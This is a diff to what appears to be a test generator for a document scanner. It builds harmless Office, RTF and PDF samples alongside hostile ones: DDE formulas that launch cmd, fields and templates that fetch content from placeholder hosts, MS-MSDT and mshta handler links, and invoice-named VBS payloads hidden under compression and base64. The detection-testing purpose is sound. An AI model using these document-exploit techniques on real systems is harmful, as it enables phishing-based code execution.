@@ -7,6 +7,7 @@ Harmless cases were held once, and hostile ones passed; each kind comes in varia
 
 from __future__ import annotations
 
+import base64
 import html
 import struct
 from collections.abc import Iterator
@@ -34,9 +35,26 @@ def cases() -> Iterator[Case]:
             "harmless",
             0,
             HARMLESS,
-            (_stored, _wrapped, _labels, _companions, _numbered, _pieces, _elsewhere, _objects, _opened, _open_links),
+            (
+                _stored,
+                _wrapped,
+                _labels,
+                _companions,
+                _numbered,
+                _pieces,
+                _elsewhere,
+                _objects,
+                _opened,
+                _open_links,
+                _everyday_fields,
+            ),
         ),
-        ("runs", 64, POLICY, (_projects, _flat, _fields, _clicks, _sheets, _rich, _open, _packages)),
+        (
+            "runs",
+            64,
+            POLICY,
+            (_projects, _flat, _fields, _clicks, _sheets, _rich, _open, _packages, _loading, _addresses, _pages),
+        ),
         ("named", 61, POLICY, (_streams, _unpacked)),
         ("spelled", 65, POLICY, (_spelled,)),
         ("sealed", 54, ENCRYPTED, (_sealed,)),
@@ -308,6 +326,132 @@ def _fields() -> Iterator[_Made]:
     yield "prefix/list.xlsx", doc.ooxml_bytes([("xl/externalLinks/externalLink1.xml", prefixed)], folder="xl")
 
 
+def _fields_in(code: str) -> Iterator[_Made]:
+    """One field in each of Word's formats."""
+    yield (
+        "letter.docx",
+        doc.ooxml_bytes([("word/document2.xml", f"<w:document>{doc.word_field(code)}</w:document>".encode())]),
+    )
+    slashed = code.replace("\\", "\\\\")
+    yield "letter.rtf", doc.rtf_bytes(before="{\\field{\\*\\fldinst " + slashed + "}{\\fldrslt x}}")
+    yield "letter.doc", doc.ole_bytes({"WordDocument": doc.word_stream() + f"\x13 {code}\x14x\x15".encode()})
+    wide = f"\x13 {code} \x14x\x15".encode("utf-16-le")
+    yield "wide.doc", doc.ole_bytes({"WordDocument": doc.word_stream() + wide})
+
+
+def _loading() -> Iterator[_Made]:
+    """Fields that load a text, an object or a picture from another machine."""
+    share = r"\\\\192.0.2.9\\s\\notes"
+    for what, code in {
+        "text": 'INCLUDETEXT "https://x.example/notes.docx"',
+        "text-share": f'INCLUDETEXT "{share}.docx" \\* MERGEFORMAT',
+        "text-bare": "INCLUDETEXT http://x.example/notes.docx",
+        "link": 'LINK Word.Document.12 "http://x.example/notes.docx" "" \\a',
+        "link-share": f'LINK Excel.Sheet.12 "{share}.xlsx" "Sheet1!R1C1" \\a \\f 5',
+        "link-page": 'link htmlfile "http://x.example/notes" "" \\a',
+        "picture-share": f'INCLUDEPICTURE "{share}.png" \\d',
+        "picture-share-address": 'INCLUDEPICTURE "file://192.0.2.9/s/logo.png"',
+    }.items():
+        for name, data in _fields_in(code):
+            yield f"{what}/{name}", data
+    quoted = doc.FIELD_BEGIN + doc.word_field('QUOTE "INCLUDETEXT"') + doc.instruction(' "http://x.example/a.docx"')
+    yield (
+        "quote/letter.docx",
+        doc.ooxml_bytes([("word/header1.xml", f"<w:hdr>{quoted}{doc.FIELD_END}</w:hdr>".encode())]),
+    )
+
+
+def _everyday_fields() -> Iterator[_Made]:
+    """Fields as letters have them: pictures of pages that were pasted, sheets of the own server, parts of the own folder."""
+    for what, code in {
+        "picture": 'INCLUDEPICTURE "https://www.example.com/logo.png" \\* MERGEFORMATINET',
+        "picture-part": 'INCLUDEPICTURE "cid:image001.png@01DB" \\* MERGEFORMATINET',
+        "picture-file": r'INCLUDEPICTURE "C:\\Users\\ann\\logo.png" \* MERGEFORMAT',
+        "picture-own": r'INCLUDEPICTURE "\\\\FILESERVER\\logos\\logo.png" \d',
+        "text": r'INCLUDETEXT "C:\\papers\\terms.docx"',
+        "text-own": r'INCLUDETEXT "\\\\FILESERVER\\papers\\terms.docx"',
+        "link": r'LINK Excel.Sheet.12 "C:\\papers\\rates.xlsx" "Sheet1!R1C1:R4C4" \a \f 4 \r',
+        "link-own": r'LINK Excel.Sheet.12 "\\\\FILESERVER\\rates.xlsx" "Sheet1!R1C1" \a',
+        "link-workbook": 'LINK Excel.Sheet.12 "https://x.sharepoint.com/:x:/s/rates.xlsx" "Sheet1!R1C1" \\a',
+        "hyperlink": 'HYPERLINK "https://www.example.com/setup.exe" \\o "LINK http://x"',
+    }.items():
+        for name, data in _fields_in(code):
+            yield f"{what}/{name}", data
+    for number, target in enumerate(
+        ("javascript:void(0)", "search.html", "ms-word:ofe|u|https://x.sharepoint.com/a.docx", "cmd/readme.md")
+    ):
+        yield f"address-{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target)])
+        yield f"address-{number}/paper.pdf", _with_address(target)
+    yield "address-web/paper.pdf", _with_address("www.example.com/setup.exe")
+    formula = '<worksheet><c><f>HYPERLINK("#Sheet2!A1","file:///C:/a.exe")</f></c><c><f>HYPERLINK("https://x.example/"&amp;A1&amp;".exe")</f></c></worksheet>'
+    yield "formula/list.xlsx", doc.ooxml_bytes([("xl/worksheets/sheet1.xml", formula.encode())], folder="xl")
+    rows = "".join(
+        f"<tr><td>=SUM(A{n}:B{n})</td><td>-{n}|{n}</td><td>= a | b</td><td>+49 30 {n}</td></tr>" for n in range(9)
+    )
+    yield (
+        "export/list.xls",
+        _sheet_page(rows + "<tr><td>=HYPERLINK(&quot;https://www.example.com/a.exe&quot;)</td></tr>"),
+    )
+
+
+def _with_address(address: str) -> bytes:
+    """A PDF with a link."""
+    written = address.encode().replace(b"\\", b"\\\\")
+    return doc.pdf_bytes().replace(
+        b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /URI /URI (" + written + b") >>"
+    )
+
+
+def _sheet_page(rows: str) -> bytes:
+    """A web page that Excel opens."""
+    return f'<html xmlns:x="urn:schemas-microsoft-com:office:excel"><body><table>{rows}</table></body></html>'.encode()
+
+
+def _addresses() -> Iterator[_Made]:
+    """Addresses that Windows hands to a program, and programs without their extension."""
+    for number, target in enumerate(
+        (
+            "search-ms:query=invoice&crumb=location:%5C%5C192.0.2.9%5Cs",
+            "MS-MSDT:/id PCWDiagnostic",
+            "ms-officecmd:{}",
+            "ms-appinstaller:?source=https://x.example/a.msix",
+            "file:///C:/Windows/System32/mshta",
+            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell",
+            r"\\192.0.2.9\s\invoice.exe",
+        )
+    ):
+        yield f"{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target.replace("&", "&amp;"))])
+        yield f"{number}/paper.pdf", _with_address(target)
+    yield "words/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", "mshta http://x.example/a")])
+    yield "locked/paper.pdf", doc.pdf_bytes().replace(b"/Catalog", b"/Catalog /A << /U#52I <7365617263682D6D733A78> >>")
+
+
+def _pages() -> Iterator[_Made]:
+    """Web pages that Excel or Word opens, with DDE or links that start a program."""
+    link = "=HYPERLINK(&quot;file:///\\\\192.0.2.9\\s\\a&quot;&amp;&quot;.exe&quot;,&quot;open&quot;)"
+    for what, cell in {
+        "dde": "<td>=cmd|'/c calc'!A0</td>",
+        "dde-plus": "<td> +MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A0</td>",
+        "dde-quoted": "<td>='cmd'|'/c calc'!A0</td>",
+        "dde-spelled": "<td>=cmd&#124;'/c calc'!A0</td>",
+        "dde-formula": "<td x:fmla=\"=cmd|'/c calc'!A0\">1</td>",
+        "link": f"<td>{link}</td>",
+    }.items():
+        yield f"{what}/list.xls", _sheet_page(f"<tr>{cell}</tr>")
+        yield f"{what}/bare.xls", f"<table><tr>{cell}</tr></table>".encode()
+        yield f"{what}/list.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + _sheet_page(f"<tr>{cell}</tr>")
+    field = (
+        "<!--[if supportFields]><span style='mso-element:field-begin'></span><span>&nbsp;</span>DDE<b>AUTO</b>"
+        " c:\\windows\\system32\\cmd.exe<span style='mso-element:field-separator'></span><![endif]-->x"
+        "<!--[if supportFields]><span style='mso-element:field-end'></span><![endif]-->"
+    )
+    yield "field/letter.doc", f"<html><body><p>{field}</p></body></html>".encode()
+    for coding in ("utf-8", "utf-16"):
+        formula = '<worksheet><c><f>HYPERLINK("\\\\192.0.2.9\\s\\a.exe","x")</f></c></worksheet>'.encode(coding)
+        yield f"formula-{coding}/list.xlsx", doc.ooxml_bytes([("xl/worksheets/sheet1.xml", formula)], folder="xl")
+    yield "formula/list.slk", b'ID;PWXL;N;E\r\nC;X1;Y1;K0;EHYPERLINK("file:///C:/a.exe")\r\nE\r\n'
+
+
 def _clicks() -> Iterator[_Made]:
     """Links of a presentation that start a program."""
     for event in ("hlinkClick", "hlinkHover", "hlinkMouseOver"):
@@ -372,6 +516,9 @@ def _rich() -> Iterator[_Made]:
         "share": "\\'5c\\'5c192.0.2.1\\'5cs",
     }.items():
         yield f"{what}/letter.rtf", doc.rtf_bytes(before="{\\*\\template " + address + "//x.example/t.dotm}")
+    yield "run/letter.rtf", doc.rtf_bytes(before="{\\*\\template \\bin3 }}}http://x.example/t.dotm}")
+    long = "{\\*\\template ht\\bin30000 " + "}" * 30_000 + "tp://x.example/t.dotm}"
+    yield "long-run/letter.rtf", doc.rtf_bytes(before=long)
     yield "bare/letter.rtf", doc.rtf_bytes(before="{\\template http://x.example/t.dotm}")
     link = doc.ole_bytes({"\x01Ole": b"x"}, bytes.fromhex("0003000000000000c000000000000046"))
     yield "link/letter.docx", doc.ooxml_bytes([("word/embeddings/oleObject1.bin", link)])
@@ -462,8 +609,16 @@ def _streams() -> Iterator[_Made]:
     }.items():
         yield f"{suffix}/invoice.vbs.{suffix}", packed
     skipped = b"\x50\x2a\x4d\x18\x04\x00\x00\x00abcd"
-    for suffix in ("zst", "tzst", "lz4"):
+    for suffix in ("zst", "lz4"):
         yield f"skipped-{suffix}/invoice.vbs.{suffix}", skipped + pack.zstd_bytes(SCRIPT)
+    # Without its suffix it would be `invoice.vbs.tar`, as which no script runs.
+    yield "skipped-tzst/invoice.tzst", skipped + pack.zstd_bytes(EXE)
+    yield "skipped-dat/invoice.dat", skipped * 2 + pack.zstd_bytes(EXE)
+    yield "skipped-often/invoice.dat", skipped * 20 + pack.zstd_bytes(EXE)
+    yield "skipped-before-lz4/invoice.dat", skipped + pack.lz4_bytes(EXE)
+    for suffix in ("-gz", "-z", "_z"):
+        yield f"by-gunzip{suffix}/invoice.vbs{suffix}", pack.gzip_bytes(SCRIPT)
+    yield "base64/invoice.vbs.b64", base64.encodebytes(SCRIPT)
     yield "other-properties/invoice.vbs.lzma", pack.lzma_bytes(SCRIPT).replace(b"]", b"<", 1)
     text = pack.gzip_bytes(TEXT[1], TEXT[0])
     yield "two/papers.gz", text + pack.gzip_bytes(EXE, "notes.txt")
